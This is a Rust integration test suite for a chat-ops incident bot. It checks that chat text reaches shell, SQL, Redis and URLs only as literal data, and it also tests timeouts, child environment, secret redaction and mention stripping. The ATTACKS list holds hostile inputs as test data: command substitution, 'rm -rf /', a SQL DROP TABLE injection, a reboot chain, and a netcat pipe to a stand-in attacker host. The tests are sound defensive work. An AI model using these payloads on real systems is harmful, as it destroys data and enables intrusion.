//! The actions' safety properties, end to end against real services: chat text reaches
//! programs, SQL, Redis and URLs only as data; timeouts kill; children inherit nothing.

mod common;

use common::{say, Pack};
use redis::AsyncCommands;
use serde_json::json;
use warroom::app::Outcome;
use warroom::model::run::StepState;

const FIXTURE: &str = "commands/chatia/fixture.sql";
const ALL: &[(&str, &str)] = &[
    ("chatia_db", "db"),
    ("chatia_cache", "redis"),
    ("chatia_api", "web"),
];

const ATTACKS: &[&str] = &[
    "$(touch /tmp/warroom-pwned)",
    "`id`",
    "a; rm -rf / #",
    "x' OR '1'='1'; DROP TABLE Companies; --",
    "line1\nline2 && reboot",
    "| nc attacker 80",
    "\"quoted\" 'single' \\back",
];

#[tokio::test]
async fn shell_metacharacters_reach_the_program_as_one_literal_argv_item() {
    let pack = Pack::fixtures(FIXTURE, ALL).await;
    pack.standins.add("recorder", "", 0);
    let (app, chat) = pack.app().await;
    for (i, attack) in ATTACKS.iter().enumerate() {
        let line = format!(
            "/argv reason=\"{}\"",
            attack.replace('\\', "\\\\").replace('"', "\\\"")
        );
        assert_eq!(
            say(&app, "U_ONCALL", &line).await,
            Outcome::Done,
            "{attack}: {}",
            chat.transcript()
        );
        let calls = pack.standins.calls_of("recorder");
        let id = i + 1;
        let incident = app.store.open_incident("C_INC").await.unwrap().unwrap().id;
        assert_eq!(
            calls[i],
            vec![
                "--reason".to_string(),
                attack.to_string(),
                format!("--note=run RUN-{id} of {incident}"),
                "literal $(id) ;|&".into()
            ],
        );
    }
    assert!(
        !std::path::Path::new("/tmp/warroom-pwned").exists(),
        "nothing was interpreted by a shell"
    );
}

#[tokio::test]
async fn sql_quotes_are_bound_values_never_statement_text() {
    let pack = Pack::fixtures(FIXTURE, ALL).await;
    let (app, _chat) = pack.app().await;
    let pool = pack.pg().await;
    for attack in ATTACKS {
        let line = format!(
            "/rename to=\"{}\"",
            attack.replace('\\', "\\\\").replace('"', "\\\"")
        );
        assert_eq!(say(&app, "U_ONCALL", &line).await, Outcome::Done);
        let name: String =
            sqlx::query_scalar("SELECT name FROM Companies WHERE id = 'company-001'")
                .fetch_one(&pool)
                .await
                .unwrap();
        assert_eq!(name, *attack);
    }
    let companies: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM Companies")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(companies, 41, "the table survived every attempt");
}

#[tokio::test]
async fn redis_and_url_placeholders_carry_user_text_as_data() {
    let pack = Pack::fixtures(FIXTURE, ALL).await;
    let (app, chat) = pack.app().await;
    assert_eq!(
        say(&app, "U_ONCALL", "/stash text=\"a b&c=d/../x\"").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );
    let incident = app.store.open_incident("C_INC").await.unwrap().unwrap().id;
    let mut redis = pack.redis().await;
    let stored: String = redis.get(format!("note:{incident}")).await.unwrap();
    assert_eq!(stored, "a b&c=d/../x");
    let ttl: i64 = redis.ttl(format!("note:{incident}")).await.unwrap();
    assert!((1..=60).contains(&ttl));
    let req = pack
        .web
        .requests()
        .into_iter()
        .find(|r| r.path.starts_with("/metrics"))
        .unwrap();
    assert_eq!(
        req.path, "/metrics?who=a%20b%26c%3Dd%2F%2E%2E%2Fx",
        "one query value, percent-encoded"
    );
}

#[tokio::test]
async fn a_poll_retries_until_the_check_holds() {
    let pack = Pack::fixtures(FIXTURE, ALL).await;
    pack.web.sequence(
        "GET",
        "/metrics",
        vec![
            (200, json!({"errorRate": 0.5})),
            (503, json!({})),
            (200, json!({"errorRate": 0.02})),
        ],
    );
    let (app, _chat) = pack.app().await;
    assert_eq!(say(&app, "U_ONCALL", "/stash text=x").await, Outcome::Done);
    let steps = app.store.steps(1).await.unwrap();
    assert_eq!(
        steps[1].output.as_deref(),
        Some("HTTP 200, /errorRate = 0.02 (after 3 attempts)")
    );
}

#[tokio::test]
async fn a_step_past_its_timeout_is_killed_with_its_process_group() {
    let pack = Pack::fixtures(FIXTURE, ALL).await;
    pack.standins.add_sleeper("sleeper", 3);
    let (app, chat) = pack.app().await;
    assert_eq!(say(&app, "U_ONCALL", "/slow").await, Outcome::StepFailed);
    let steps = app.store.steps(1).await.unwrap();
    assert_eq!(steps[0].state, StepState::Failed);
    assert_eq!(steps[0].output.as_deref(), Some("timed out after 1s"));
    assert!(chat.transcript().contains("RUNBOOK FAILED: /slow"));
    tokio::time::sleep(std::time::Duration::from_millis(3500)).await;
    let calls = pack.standins.calls();
    assert_eq!(
        calls.len(),
        1,
        "the sleeper started once and never woke: {calls:?}"
    );
}

#[tokio::test]
async fn child_processes_inherit_only_path_home_and_locale() {
    let pack = Pack::fixtures(FIXTURE, ALL).await;
    let (app, _chat) = pack.app().await;
    assert_eq!(say(&app, "U_ONCALL", "/childenv").await, Outcome::Done);
    let output = app.store.steps(1).await.unwrap()[0].output.clone().unwrap();
    let names: Vec<&str> = output
        .trim_start_matches("`env` exited 0: ")
        .lines()
        .filter_map(|l| l.split_once('=').map(|(k, _)| k))
        .collect();
    assert!(names.contains(&"PATH"), "{output}");
    for n in &names {
        assert!(
            ["PATH", "HOME", "LANG", "LC_ALL", "TZ"].contains(n),
            "{n} leaked into the child: {output}"
        );
    }
}

#[tokio::test]
async fn a_target_that_is_down_fails_the_step_without_revealing_its_url() {
    let mut pack = Pack::fixtures(FIXTURE, ALL).await;
    for t in pack
        .env
        .settings
        .targets
        .iter_mut()
        .filter(|t| t.name == "chatia_api")
    {
        t.url = Some(secrecy::SecretString::from(
            "http://user:hunter2@127.0.0.1:9".to_string(),
        ));
    }
    let (app, chat) = pack.app().await;
    assert_eq!(
        say(&app, "U_ONCALL", "/stash text=x").await,
        Outcome::StepFailed
    );
    let text = chat.transcript();
    assert!(text.contains("`chatia_api` is unreachable"), "{text}");
    // Port 9 has no listener: the connection is refused (ECONNREFUSED, POSIX
    // `connect(2)`), which is not a timeout (issue 14 read "(timed out)").
    assert!(
        text.contains("refused the connection") && !text.contains("timed out"),
        "{text}"
    );
    assert!(
        !text.contains("hunter2") && !text.contains("127.0.0.1:9"),
        "{text}"
    );
}

#[tokio::test]
async fn output_from_outside_cannot_mention_the_channel_either() {
    let pack = Pack::fixtures(FIXTURE, ALL).await;
    pack.standins
        .add("recorder", "deployed <!channel> @here <@U123> @everyone", 0);
    let (app, chat) = pack.app().await;
    assert_eq!(
        say(&app, "U_ONCALL", "/argv reason=\"ship it\"").await,
        Outcome::Done
    );
    let transcript = chat.transcript();
    assert!(
        transcript.contains("deployed"),
        "the output is shown: {transcript}"
    );
    for bad in ["<!channel>", "@here", "<@U123>", "@everyone"] {
        assert!(!transcript.contains(bad), "{bad} survived in {transcript}");
    }
}
